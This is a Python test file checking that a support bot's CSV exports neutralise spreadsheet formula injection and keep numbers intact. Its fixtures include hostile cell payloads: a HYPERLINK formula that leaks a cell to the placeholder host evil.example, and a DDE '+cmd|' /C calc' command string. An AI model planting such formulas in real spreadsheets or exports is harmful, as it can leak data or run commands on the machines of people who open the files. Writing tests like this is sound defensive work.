"""CSV exports neutralise spreadsheet formulas (OWASP): a cell starting with = + - @ tab or CR is
prefixed with ``'``; numbers stay numbers; ``--raw-csv`` writes the values as they are."""

import csv
import json

import pandas as pd
from sqlalchemy import select
from typer.testing import CliRunner

from bot.cli import app
from bot.importer import Rejected, write_rejected
from storage.db import make_engine, make_session_factory, session_scope
from storage.models import Item, ThreadMessage

runner = CliRunner()
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def run(*args):
    result = runner.invoke(app, list(args))
    return result.exit_code, result.output


def read_cells(path):
    """Header and rows exactly as a spreadsheet would get them (strings, nothing parsed)."""
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    return rows[0], [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(header, rows):
    """No cell a spreadsheet would run: a cell starting with - is only ever a number written as one."""
    cells = header + [v for row in rows for v in row.values()]
    assert not [c for c in cells if c.startswith(TRIGGERS) and not is_number(c)]


def hostile_items(env):
    src = env / "items.jsonl"
    records = [
        {
            "id": "=1+1",
            "text": HYPERLINK,
            "plus": "+cmd|' /C calc'!A0",
            "minus": "-2+3",
            "at": "@SUM(A1:A9)",
            "tab": "\t=1",
            "cr": "\r=1",
            "number": -5,
            "ratio": -0.25,
            "digits": "-5",
            "nested": ["=x", {"k": "@y"}],
            "=evil": "fine",
            "plain": "a = b",
            "inside": "ok\r=1+1",
        },
        {"id": "b", "text": "an ordinary ticket", "number": 3},
    ]
    src.write_text("".join(json.dumps(r) + "\n" for r in records))
    code, out = run("import", "support", str(src))
    assert code == 0, out


def test_items_csv_neutralises_every_string_cell_and_keeps_numbers(env):
    hostile_items(env)
    code, out = run("export", "support", "-o", str(env / "out.csv"))
    assert code == 0, out
    header, rows = read_cells(env / "out.csv")
    assert_no_formula(header, rows)
    first = rows[0]
    assert first["item_id"] == "'=1+1"
    assert first["text"] == "'" + HYPERLINK
    assert (first["plus"], first["minus"], first["at"]) == ("'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)")
    assert (first["tab"], first["cr"]) == ("'\t=1", "'\r=1")
    assert first["digits"] == "'-5"  # a string, whatever it looks like
    assert first["number"] == "-5" and first["ratio"] == "-0.25"  # numbers stay numbers
    assert json.loads(first["nested"]) == ["=x", {"k": "@y"}]  # JSON text, starting with [
    assert "'=evil" in header and first["'=evil"] == "fine"  # metadata names are cells too
    assert first["plain"] == "a = b" and rows[1]["text"] == "an ordinary ticket"
    assert first["inside"] == "ok\r=1+1" and len(rows) == 2  # a lone CR is quoted: it starts no row
    assert json.loads(first["votes"]) == {}
    frame = pd.read_csv(env / "out.csv")
    assert frame.loc[0, "number"] == -5 and frame.loc[0, "ratio"] == -0.25


def test_raw_csv_writes_values_as_they_are(env):
    hostile_items(env)
    code, out = run("export", "support", "-o", str(env / "raw.csv"), "--raw-csv")
    assert code == 0, out
    header, rows = read_cells(env / "raw.csv")
    assert rows[0]["item_id"] == "=1+1" and rows[0]["text"] == HYPERLINK and "=evil" in header
    assert rows[0]["cr"] == "\r=1" and rows[0]["inside"] == "ok\r=1+1" and len(rows) == 2


def test_raw_csv_is_refused_for_jsonl_and_parquet_which_are_raw_anyway(env):
    hostile_items(env)
    for name in ("out.jsonl", "out.parquet"):
        code, out = run("export", "support", "-o", str(env / name), "--raw-csv")
        assert code != 0 and "--raw-csv" in out and "only for CSV" in out, out
        assert not (env / name).exists()
    run("export", "support", "-o", str(env / "out.jsonl"))
    first = json.loads((env / "out.jsonl").read_text().splitlines()[0])
    assert first["text"] == HYPERLINK and first["item_id"] == "=1+1" and first["number"] == -5
    run("export", "support", "-o", str(env / "out.parquet"))
    assert pd.read_parquet(env / "out.parquet").loc[0, "text"] == HYPERLINK


def test_label_history_csv_is_neutralised(env):
    hostile_items(env)
    labels = env / "labels.csv"
    pd.DataFrame(
        [
            {"item_id": "=1+1", "user_id": "=cmd()", "label": "bug"},
            {"item_id": "b", "user_id": "@U1", "label": "other"},
        ]
    ).to_csv(labels, index=False)
    code, out = run("import", "support", str(labels), "--labels")
    assert code == 0, out
    code, out = run("export", "support", "--labels", "-o", str(env / "history.csv"))
    assert code == 0, out
    header, rows = read_cells(env / "history.csv")
    assert_no_formula(header, rows)
    assert [(r["item_id"], r["user_id"]) for r in rows] == [("'=1+1", "'=cmd()"), ("b", "'@U1")]
    code, out = run("export", "support", "-o", str(env / "items.csv"))
    _, items = read_cells(env / "items.csv")
    assert json.loads(items[0]["votes"]) == {"=cmd()": "bug"}  # user ids inside JSON, which starts with {


def test_discussions_csv_is_neutralised(env, database_url):
    hostile_items(env)
    engine = make_engine(database_url)
    try:
        with session_scope(make_session_factory(engine)) as session:
            item_id = session.scalar(select(Item.id).where(Item.external_id == "b"))
            session.add(
                ThreadMessage(item_id=item_id, event_id="Ev1", user_id="U0ANN", ts="1.000001", text=HYPERLINK)
            )
            session.add(
                ThreadMessage(item_id=item_id, event_id="Ev2", user_id="-U2", ts="1.000002", text="+1")
            )
    finally:
        engine.dispose()
    code, out = run("export", "support", "--discussions", "-o", str(env / "threads.csv"))
    assert code == 0, out
    header, rows = read_cells(env / "threads.csv")
    assert_no_formula(header, rows)
    assert [(r["user_id"], r["text"]) for r in rows] == [("U0ANN", "'" + HYPERLINK), ("'-U2", "'+1")]
    code, out = run("export", "support", "--discussions", "-o", str(env / "raw.csv"), "--raw-csv")
    _, rows = read_cells(env / "raw.csv")
    assert rows[0]["text"] == HYPERLINK


def test_rejected_rows_csv_is_neutralised(env):
    src = env / "bad.csv"
    pd.DataFrame([{"id": "a", "text": "fine"}, {"id": "", "text": HYPERLINK}]).to_csv(src, index=False)
    code, out = run("import", "support", str(src), "--skip-invalid")
    assert code == 0 and "1 row(s) rejected" in out, out
    header, rows = read_cells(env / "bad.rejected.csv")
    assert_no_formula(header, rows)
    assert rows[0]["text"] == "'" + HYPERLINK and rows[0]["error"] == "missing 'id'"


def test_neutralise_formulas_by_type():
    from bot.exporter import neutralise_formulas

    frame = pd.DataFrame({"s": ["=a", "-1", "ok", None], "n": [-1, 2, -3, 4], "f": [-0.5, None, 1.0, 2.0]})
    safe = neutralise_formulas(frame)
    assert list(safe["s"][:3]) == ["'=a", "'-1", "ok"] and pd.isna(safe["s"][3])
    assert list(safe["n"]) == [-1, 2, -3, 4] and safe["n"].dtype == frame["n"].dtype
    assert safe["f"][0] == -0.5 and pd.isna(safe["f"][1])
    mixed = neutralise_formulas(pd.DataFrame({"m": [-2, "-2", True, "@x"]}))
    assert list(mixed["m"]) == [-2, "'-2", True, "'@x"]


def test_write_rejected_csv_directly(tmp_path):
    path = tmp_path / "r.csv"
    write_rejected([Rejected(1, "missing 'id'", {"text": "@cmd", "n": -1})], path)
    _, rows = read_cells(path)
    assert rows == [{"row": "1", "error": "missing 'id'", "text": "'@cmd", "n": "-1"}]
